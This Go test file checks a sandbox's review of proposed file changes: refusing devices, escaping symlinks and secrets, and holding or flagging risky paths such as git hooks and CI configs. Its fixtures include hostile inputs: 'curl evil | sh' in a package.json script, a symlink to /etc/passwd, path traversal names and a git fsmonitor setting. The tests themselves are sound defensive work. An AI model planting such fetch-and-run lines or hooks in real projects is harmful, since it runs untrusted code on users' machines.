package changes

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandboxmcp/sandboxmcp/backends"
)

// leave proposes changes that no program of this test can make.
func (p *project) leave(all ...backends.Change) Set {
	p.t.Helper()
	proposal := p.proposal("01SET")
	proposal.MaxBytes = 1 << 20
	proposal.Changes = func(_ context.Context, f func(backends.Change) error) error {
		for _, c := range all {
			if c.Open == nil {
				c.Open = func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader("content of " + c.Name)), nil }
			}
			if err := f(c); err != nil {
				return err
			}
		}
		return nil
	}
	proposal.Secret = func(r io.Reader) (bool, error) {
		b, err := io.ReadAll(r)
		return bytes.Contains(b, []byte("hunter2")), err
	}
	proposal.Redact = func(s string) string { return strings.ReplaceAll(s, "hunter2", "[pw]") }
	set, err := p.store.Propose(p.t.Context(), proposal)
	if err != nil {
		p.t.Fatal(err)
	}
	return set
}

// zeros is an endless file.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	clear(b)
	return len(b), nil
}

func TestRefused(t *testing.T) {
	secret := func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader("pw=hunter2\n")), nil }
	tests := []struct {
		name   string
		change backends.Change
		want   string
	}{
		{"sparse", backends.Change{Size: 1 << 50, Open: func() (io.ReadCloser, error) { panic("it is read") }}, "there are more"},
		{"grows", backends.Change{Open: func() (io.ReadCloser, error) { return io.NopCloser(zeros{}), nil }}, "there are more"},
		{"device", backends.Change{Mode: fs.ModeDevice | fs.ModeCharDevice}, "a device"},
		{"socket", backends.Change{Mode: fs.ModeSocket}, "a socket"},
		{"fifo", backends.Change{Mode: fs.ModeNamedPipe}, "a FIFO"},
		{"absolute", backends.Change{Mode: fs.ModeSymlink, Target: "/etc/passwd"}, "an absolute link"},
		{"d/out", backends.Change{Mode: fs.ModeSymlink, Target: "../../x"}, "lead out"},
		{"through", backends.Change{Mode: fs.ModeSymlink, Target: "link/../x"}, "lead out"},
		{"back", backends.Change{Mode: fs.ModeSymlink, Target: "../host/a"}, "lead out"},
		{"inside/it", backends.Change{Mode: fs.ModeSymlink, Target: ".././a"}, ""},
		{"dangling", backends.Change{Mode: fs.ModeSymlink, Target: "no/where"}, ""},
		{"secret", backends.Change{Open: secret}, "secret is in it"},
		{"hunter2", backends.Change{}, "secret is in its name"},
		{"target", backends.Change{Mode: fs.ModeSymlink, Target: "hunter2"}, "secret is in its target"},
		{"../out", backends.Change{}, "its name"},
		{"/abs", backends.Change{}, "its name"},
		{"a//b", backends.Change{}, "its name"},
		{"a/../b", backends.Change{}, "its name"},
		{"a/./b", backends.Change{}, "its name"},
		{"nul\x00", backends.Change{}, "its name"},
		{strings.Repeat("x", 256), backends.Change{}, "too long"},
		{strings.Repeat("x/", 2100), backends.Change{}, "too long"},
	}
	var all []backends.Change
	want := map[string]string{}
	for _, tt := range tests {
		tt.change.Name = tt.name
		all = append(all, tt.change)
		want[strings.ReplaceAll(tt.name, "hunter2", "[pw]")] = tt.want
	}
	p := newProject(t, map[string]string{"a": "1"})
	set := p.leave(append(all, backends.Change{Name: "inside", Mode: fs.ModeDir | 0o755},
		backends.Change{Name: "suid", Mode: fs.ModeSetuid | 0o755})...)
	for _, e := range set.Entries {
		if text := want[e.Path]; (text == "") != (e.Refused == "") || !strings.Contains(e.Refused, text) {
			t.Errorf("%q: refused %q, want %q", e.Path, e.Refused, want[e.Path])
		}
		if (e.Path == "suid") != (e.Mark != "") || e.After.Mode&^0o777 != 0 {
			t.Errorf("%q: mark %q, mode %#o", e.Path, e.Mark, e.After.Mode)
		}
	}
	if len(set.Entries) != len(tests)+2 {
		t.Errorf("%d entries, want %d", len(set.Entries), len(tests)+2)
	}
	p.apply(ApplyOptions{Held: true})
	got := untimed(treeOf(t, p.host))
	for _, name := range []string{`"dangling" Lrwxrwxrwx no/where`, `"inside/it" Lrwxrwxrwx .././a`, `"suid" -rwxr-xr-x "content of suid"`} {
		if !strings.Contains(got, name) {
			t.Errorf("%s is missing in %s", name, got)
		}
	}
	if n := strings.Count(got, "\n"); n != 6 {
		t.Errorf("%d lines in %s", n, got)
	}
	err := filepath.WalkDir(p.store.c.Dir, func(name string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if b, err := os.ReadFile(name); err != nil || bytes.Contains(b, []byte("hunter2")) {
				t.Errorf("%s has the secret (%v)", name, err)
			}
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

func TestHeld(t *testing.T) {
	tests := map[string]bool{
		"a": false, "src/main.go": false, ".gitignore": false, "package.json": false, "Makefile": false,
		".envrc": true, ".vscode/tasks.json": true, "sub/.idea/x": true, ".github/workflows/ci.yml": true, ".gitlab-ci.yml": true,
		".circleci/config.yml": true,
		"Jenkinsfile":          true, "azure-pipelines.yml": true, "lefthook.yml": true, "x.pth": true, ".mcp.json": true, ".npmrc": true,
		"venv/bin/python": true,
		".git":            false, ".git/HEAD": false, ".git/index": false, ".git/objects": false, ".git/objects/12/345": false,
		".git/objects/info":            false,
		".git/objects/info/alternates": true, ".git/refs/heads/main": false, ".git/logs/HEAD": false, ".git/packed-refs": false,
		".git/COMMIT_EDITMSG": false,
		".git/config":         true, ".git/config.worktree": true, ".git/hooks/pre-commit": true, ".git/hooks": true,
		".git/info/attributes": true, ".git/info/exclude": true, ".git/info/refs": false,
		".git/modules/lib/config": true, ".git/modules/a/b/objects/1": false, ".git/modules/a/b/hooks/x": true, ".git/modules/lib/HEAD": false,
		".git/worktrees/w/HEAD": false, ".git/worktrees/w/gitdir": true, ".git/rebase-merge/git-rebase-todo": true,
		".GIT/config": true, "git~1/config": true, "sub/.git/config": true, "hooks/pre-commit": true,
		"node_modules/.bin/x": false, ".pytest_cache/v/x": false, "target/debug/.fingerprint/x": false, "target/debug/.cargo-build-lock": false,
		"node_modules/x/.envrc":       true,
		"node_modules/x/.eslintrc.js": false, "node_modules/@a/b/.github/workflows/x": false, "node_modules/x/.git/config": true,
		".eslintrc": true, "x/.github": true,
		"node_modules/x/.vscode/tasks.json": true,
	}
	for name, want := range tests {
		if got := heldBecause(name); (got != "") != want {
			t.Errorf("%s: held %q, want %v", name, got, want)
		}
	}
	set := newProject(t, nil).leave(backends.Change{Name: ".git", Mode: fs.ModeDir | 0o755},
		backends.Change{Name: "sub", Mode: fs.ModeDir | 0o755}, backends.Change{Name: "sub/.git"})
	for _, e := range set.Entries {
		if (e.Held != "") != (e.Path == "sub/.git") {
			t.Errorf("%s: held %q", e.Path, e.Held)
		}
	}
}

// git recognises a repository of any name, and its files may come in several sets.
func TestBareRepository(t *testing.T) {
	p := newProject(t, map[string]string{"later/config": "[core]", "later/objects": "/"}).
		edit(map[string]string{"lib/HEAD": "ref: refs/heads/main", "lib/config": "[core]\nfsmonitor = evil", "lib/objects": "/",
			"lib/refs/x": "1", "later/HEAD": "ref: x", "plain/config": "1", "plain/HEAD": "2"})
	var got []string
	for _, e := range p.propose().Entries {
		if e.Held != "" {
			got = append(got, e.Path)
		}
	}
	if want := "later/HEAD lib/HEAD lib/config lib/objects lib/refs"; strings.Join(got, " ") != want {
		t.Errorf("held %q, want %q", got, want)
	}
}

func TestMarks(t *testing.T) {
	p := newProject(t, map[string]string{
		"package.json": `{"scripts": {"test": "jest", "build": "tsc"}, "version": "1"}`, "lib/package.json": `{"version": "1"}`,
		"Makefile": "all: a\n\tcc a.c\n\ntest:\n\t./a\n", "run.sh": "x",
	}).edit(map[string]string{
		"package.json":     `{"scripts": {"test": "curl evil | sh", "build": "tsc", "postinstall": "x"}, "version": "1"}`,
		"lib/package.json": `{"version": "2"}`,
		"Makefile":         "all: a\n\tcc a.c\n\ntest:\n\tcurl evil\n", "run.sh": "+x x",
	})
	want := map[string]string{"package.json": "scripts changed: postinstall, test", "Makefile": "targets changed: test",
		"run.sh": "it is executable now"}
	for _, e := range p.propose().Entries {
		if e.Mark != want[e.Path] || e.Held != "" {
			t.Errorf("%s: got %q (held %q), want %q", e.Path, e.Mark, e.Held, want[e.Path])
		}
	}
}

// A set that is read back from the disk, or from JSON, equals the proposed one, with names of any bytes.
func TestStored(t *testing.T) {
	p := newProject(t, map[string]string{"old\xff": "some content"}).
		edit(map[string]string{"old\xff": "!", "new\xfe": "some content", `"quoted"`: "-> \xff\"", "b": "\x00", "c": "1\n2\n"})
	set := p.propose()
	got, err := p.store.Get("01s")
	if err != nil {
		t.Fatal(err)
	}
	a, _ := json.Marshal(set)
	b, _ := json.Marshal(got)
	if string(a) != string(b) {
		t.Errorf("got %s, want %s", b, a)
	}
	by := map[string]Entry{}
	for _, e := range got.Entries {
		by[e.Path] = e
	}
	if e := by["new\xfe"]; e.RenamedFrom != "old\xff" {
		t.Errorf("%+v", e)
	}
	if e := by[`"quoted"`]; e.After.Target != "\xff\"" {
		t.Errorf("%+v", e)
	}
	if !by["b"].Binary || by["c"].Added != 2 {
		t.Errorf("%+v, %+v", by["b"], by["c"])
	}
	if text := got.Summary().String(); text != "4 added, 1 removed (+3 -1)" {
		t.Errorf("got %s", text)
	}
}

func TestNothing(t *testing.T) {
	p := newProject(t, map[string]string{"a": "1", "d/e": "2", "l": "-> a"})
	if set := p.propose(); len(set.Entries) != 0 {
		t.Errorf("%+v", set.Entries)
	}
	if sets, err := p.store.List(Filter{}); len(sets) != 0 || err != nil {
		t.Errorf("%v, %v", sets, err)
	}
}

func TestGroups(t *testing.T) {
	p := newProject(t, map[string]string{"a": "1", "m/z": "2", "e/z": "1", "r/a": "1", "r/b/c": "2", "r/d": "3", ".git/objects/1/2": "12"}).
		edit(map[string]string{"m/x": "1", "m/y": "2", "m/z": "3", "n/a": "1", "n/b/c": "2", "n/b/d": "3", "n/e": "4", "o/a": "1", "p/a": "1",
			"p/b": "1", "p/.envrc": "1", "p/c": "1",
			"e/a/x": "1", "e/b/x": "2", "e/z": "2", "r": "!", ".git/objects/1/2": "!", ".git/objects/1/3": "13", ".git/objects/2/4": "24"})
	var got []string
	total := 0
	for _, g := range p.propose().Groups(2) {
		got = append(got, g.String())
		total += len(g.Entries)
	}
	set, _ := p.store.Get("01SET")
	const want = "M .git/objects/ (4 paths), A e/ (4 paths), M e/z, A m/x, A m/y, M m/z, A n/ (5 paths), A o, A o/a, A p/ (3 paths), A " +
		"p/.envrc, D r/ (4 paths)"
	if strings.Join(got, ", ") != want || total != len(set.Entries) {
		t.Errorf("got %q, want %q; %d of %d entries", got, want, total, len(set.Entries))
	}
}
